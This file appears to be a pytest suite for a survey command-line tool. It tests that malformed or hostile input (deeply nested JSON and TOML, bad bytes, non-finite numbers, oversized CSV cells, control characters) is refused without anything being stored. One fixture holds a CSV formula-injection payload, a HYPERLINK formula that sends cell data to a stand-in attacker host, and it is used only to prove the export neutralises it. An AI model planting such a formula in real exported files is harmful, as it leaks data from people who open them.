"""Issue 14, items 9 to 13: hostile or broken input gets one clear refusal with a documented exit
status, nothing is stored, and SQLite and PostgreSQL behave alike.  Everything runs through the
real command line in-process, on real SQLite files and the real PostgreSQL server."""

from __future__ import annotations

import csv
import json
import secrets
from pathlib import Path

import pytest

from hostile import CRASH, ROSTER, issue_token, run, write_spec
from surveykit import load_spec
from surveykit.errors import SpecError
from surveykit.identity import Token
from surveykit.storage import open_store

TAKING_STOCK = Path(__file__).resolve().parents[1] / "specs" / "taking_stock.toml"


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request, tmp_path, monkeypatch) -> str:
    """A fresh store of each kind; PostgreSQL takes its secret from the environment."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path}/responses.db"
    monkeypatch.setenv("SURVEYKIT_SECRET", secrets.token_urlsafe(32))
    return request.getfixturevalue("postgres_url")


def _stored(db: str) -> int:
    with open_store(db) as store:
        return store.count_responses("stock")


# 9. answers that are not JSON answers ----------------------------------------------------------

#: Each bad line, and the reason `check` gives for it (column included).
BAD_LINES = [
    (b"[" * 100_000, "arrays and objects are nested more than 32 deep at column 33"),
    (b'{"q2": "caf\xe9"}', "the text is not UTF-8 at column 12"),
    (
        b'{"q2": "\\ud800"}',
        "\\ud800 is half of a UTF-16 surrogate pair, not a character at column 9",
    ),
    (b'{"q1": "yes", "q2": 1e999}', "the number 1e999 is out of range at column 21"),
    (b'{"q2": NaN}', "NaN is not a JSON value at column 8"),
    (b'{"q2": -Infinity}', "-Infinity is not a JSON value at column 8"),
    (
        b'{"q2": ' + b"9" * 5000 + b"}",
        "the number 99999999999999999999... is out of range at column 8",
    ),
]


def test_check_reports_each_unreadable_line_alone_and_goes_on(tmp_path):
    """Deep nesting, bad bytes, lone surrogates and non-finite numbers are each a `bad_json`
    problem at their own line; the good lines around them are still checked; every line printed
    is strict JSON (no Infinity, no NaN)."""
    spec = write_spec(tmp_path)
    good = b'{"q1": "yes", "q2": "fine"}'
    answers = tmp_path / "answers.jsonl"
    answers.write_bytes(b"\n".join([good, *(line for line, _ in BAD_LINES), good]) + b"\n")
    status, out, err = run("check", str(spec), "--answers", str(answers))
    assert (status, err) == (1, "")
    records = [json.loads(line, parse_constant=_refuse) for line in out.splitlines()]
    assert [r["line"] for r in records] == list(range(1, len(BAD_LINES) + 3))
    assert records[0]["problems"] == records[-1]["problems"] == []
    for record, (_, reason) in zip(records[1:-1], BAD_LINES, strict=True):
        assert record["problems"] == [
            {
                "question": None,
                "code": "bad_json",
                "message": f"line {record['line']} is not valid JSON: {reason}",
            }
        ]
        assert record["answers"] == {}


def _refuse(name: str) -> None:
    raise AssertionError(f"{name} printed as if it were JSON")


@pytest.mark.parametrize(("content", "reason"), BAD_LINES, ids=range(len(BAD_LINES)))
def test_submit_refuses_answers_that_are_not_json_answers(db, tmp_path, content, reason):
    """The same inputs given to `submit`: one line naming the file, line and column; exit 1;
    nothing stored, on either store."""
    spec = write_spec(tmp_path)
    token = issue_token(tmp_path, spec, db)
    answers = tmp_path / "answers.json"
    answers.write_bytes(content)
    status, _, err = run(
        "submit", str(spec), "--db", db, "--token", token, "--answers", str(answers)
    )
    assert status == 1
    located = reason.replace(" at column ", " at line 1 column ")
    assert err == f"Error: {answers} is not valid JSON: {located}\n"
    assert _stored(db) == 0


def test_submit_names_the_line_of_a_multi_line_answers_file(tmp_path):
    """A pretty-printed file: the refusal gives the line the bad value is on."""
    spec = write_spec(tmp_path)
    db = f"sqlite:///{tmp_path}/responses.db"
    token = issue_token(tmp_path, spec, db)
    answers = tmp_path / "answers.json"
    answers.write_text('{\n  "q1": "yes",\n  "q2": Infinity\n}\n')
    status, _, err = run(
        "submit", str(spec), "--db", db, "--token", token, "--answers", str(answers)
    )
    assert (status, err) == (
        1,
        f"Error: {answers} is not valid JSON: Infinity is not a JSON value at line 3 column 9\n",
    )


# 10. specs nested too deeply ---------------------------------------------------------------


def _deep_specs(tmp_path):
    base = TAKING_STOCK.read_text(encoding="utf-8")
    condition = 'shown_if = \'q1 in ["some_changes", "none_relevant"]\''
    assert condition in base
    line = base[: base.index(condition)].count("\n") + 1
    cases = {
        "nots": (
            base.replace(condition, "shown_if = '" + "not " * 500 + condition[12:], 1),
            line,
            "question q2: shown_if is nested more than 32 levels deep (counting not, and, or "
            "and brackets) at column 129; simplify it",
        ),
        "arrays": (
            base + "\n[deep]\nx = " + "[" * 500 + "]" * 500 + "\n",
            base.count("\n") + 3,
            "arrays and inline tables are nested more than 32 deep; a spec needs a few levels "
            "at most",
        ),
        "tables": (
            base + "\n[deep]\nx = " + "{a=" * 500 + "1" + "}" * 500 + "\n",
            base.count("\n") + 3,
            "arrays and inline tables are nested more than 32 deep; a spec needs a few levels "
            "at most",
        ),
    }
    for name, (text, line_number, message) in cases.items():
        path = tmp_path / f"{name}.toml"
        path.write_text(text, encoding="utf-8")
        yield path, f"{path}:{line_number}: {message}"


def test_validate_and_show_refuse_specs_nested_too_deeply(tmp_path):
    """500 nested `not`s, or a TOML value 500 deep: FILE:LINE and the `too_deep` code, exit 1,
    from both commands; before, a RecursionError."""
    for path, problem in _deep_specs(tmp_path):
        assert run("validate", str(path)) == (
            1,
            problem + "\n",
            f"{path}: 1 problem; the spec was not loaded\n",
        )
        assert run("show", str(path)) == (1, "", f"Error: {problem}\n")
        with pytest.raises(SpecError) as info:
            load_spec(path)
        assert [p.code for p in info.value.problems] == ["too_deep"]


def test_nesting_up_to_the_limit_loads(tmp_path):
    """31 `not`s (32 levels with the comparison) and arrays 32 deep are not too deep."""
    base = TAKING_STOCK.read_text(encoding="utf-8")
    condition = 'shown_if = \'q1 in ["some_changes", "none_relevant"]\''
    odd = "not " * 31 + condition[12:-1]
    path = tmp_path / "deep_enough.toml"
    path.write_text(base.replace(condition, f"shown_if = '{odd}'", 1), encoding="utf-8")
    assert load_spec(path).question("q2").condition is not None
    path.write_text(base + "\n[deep]\nx = " + "[" * 32 + "]" * 32 + "\n", encoding="utf-8")
    with pytest.raises(SpecError) as info:
        load_spec(path)
    assert [p.code for p in info.value.problems] == ["unknown_key"]


# 11. a roster cell over the CSV module's limit ------------------------------------------------


def test_a_roster_cell_over_the_csv_limit_is_too_long(db, tmp_path):
    """A 140,000-character cell: `too_long` at FILE:LINE, with the rows before it checked too;
    nothing imported, no links file; before, "unexpected Error: field larger than field limit"."""
    spec = write_spec(tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(
        ROSTER
        + "Kent County Council,shire,other,Ann,\n"
        + f"Kent County Council,county,other,{'x' * 140_000},\n",
        encoding="utf-8",
    )
    out = tmp_path / "links.csv"
    status, stdout, err = run(
        "tokens", "issue", str(spec), "--db", db, "--roster", str(roster), "--out", str(out)
    )
    assert (status, stdout) == (1, "")
    assert err == (
        f"Error: {roster}:3: unknown authority type 'shire' (known: county)\n"
        f"{roster}:4: a cell is longer than 131,072 characters\n"
        "2 problems; nothing was imported\n"
    )
    assert not out.exists()
    with open_store(db) as store:
        assert list(store.respondents("stock")) == []


# 12. control characters ----------------------------------------------------------------------


def test_submit_refuses_a_control_character_on_every_store(db, tmp_path):
    """U+0000 in a text answer: the same answer problem on SQLite (which stored it) and on
    PostgreSQL (which failed with a four-line driver message); nothing stored on either."""
    spec = write_spec(tmp_path)
    token = issue_token(tmp_path, spec, db)
    answers = tmp_path / "answers.json"
    answers.write_text(json.dumps({"q1": "yes", "q2": "because\u0000 so"}))
    status, _, err = run(
        "submit", str(spec), "--db", db, "--token", token, "--answers", str(answers)
    )
    assert status == 1
    assert err == (
        "Error: the answers were not stored: 1 problem\n"
        "  Question 2: the answer contains a control character (U+0000), which cannot be "
        "accepted; remove it\n"
    )
    assert _stored(db) == 0


def test_tabs_and_line_breaks_in_text_are_kept_on_every_store(db, tmp_path):
    """Layout characters are not control characters for text: stored as given, on both."""
    spec = write_spec(tmp_path)
    token = issue_token(tmp_path, spec, db)
    answers = tmp_path / "answers.json"
    text = "first line\r\n\tsecond line\nthird"
    answers.write_text(json.dumps({"q1": "yes", "q2": text}))
    status, _, err = run(
        "submit", str(spec), "--db", db, "--token", token, "--answers", str(answers)
    )
    assert (status, CRASH.search(err)) == (0, None)
    with open_store(db) as store:
        [respondent] = store.respondents("stock")
        assert store.response(respondent.id).answers["q2"] == text


def test_a_roster_with_control_characters_is_refused_on_every_store(db, tmp_path):
    """A NUL in a name, a tab in an authority: `control_character` at each line, nothing
    imported (PostgreSQL failed on the NUL; SQLite stored both)."""
    spec = write_spec(tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "authority,authority_type,role,name,email\n"
        "Kent County Council,county,leader,Ada\x00 Lovelace,\n"
        "Kent\tCounty Council,county,other,Brian,\n",
        encoding="utf-8",
    )
    out = tmp_path / "links.csv"
    status, _, err = run(
        "tokens", "issue", str(spec), "--db", db, "--roster", str(roster), "--out", str(out)
    )
    assert status == 1
    assert err == (
        f"Error: {roster}:2: the name contains a control character (U+0000); remove it\n"
        f"{roster}:3: the authority contains a control character (U+0009); remove it\n"
        "2 problems; nothing was imported\n"
    )
    assert not out.exists()
    with open_store(db) as store:
        assert list(store.respondents("stock")) == []


# 13. formulas in the links file --------------------------------------------------------------


def test_the_links_file_cannot_run_a_formula(tmp_path):
    """Roster cells starting with = + - @ reach links.csv as text (after an apostrophe), so a
    spreadsheet shows them instead of running them; the link itself is untouched."""
    spec = write_spec(tmp_path)
    roster = tmp_path / "roster.csv"
    hyperlink = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    roster.write_text(
        "authority,authority_type,role,name,email\n"
        f'"{hyperlink.replace(chr(34), chr(34) * 2)}",county,leader,+44 1632 960000,\n'
        "-Kent,county,other,@Ada,\n"
        "Dover,county,other,Plain Name,dover@example.org\n",
        encoding="utf-8",
    )
    out = tmp_path / "links.csv"
    status, _, err = run(
        "tokens",
        "issue",
        str(spec),
        "--db",
        f"sqlite:///{tmp_path}/responses.db",
        "--roster",
        str(roster),
        "--out",
        str(out),
        "--base-url",
        "https://consult.example.org/r/",
    )
    assert (status, err) == (0, "")
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["authority"], r["name"]) for r in rows] == [
        ("'" + hyperlink, "'+44 1632 960000"),
        ("'-Kent", "'@Ada"),
        ("Dover", "Plain Name"),
    ]
    assert all(r["link"].startswith("https://consult.example.org/r/") for r in rows)
    assert rows[2]["email"] == "dover@example.org"


def test_no_token_starts_with_a_formula_character():
    """A bare token in links.csv is never changed by the formula guard: none starts with '-'
    (before, one in 64 did; 3,000 tokens would all avoid it by chance once in 10^20 runs)."""
    assert not [t for t in (Token.new().value for _ in range(3000)) if t.startswith("-")]
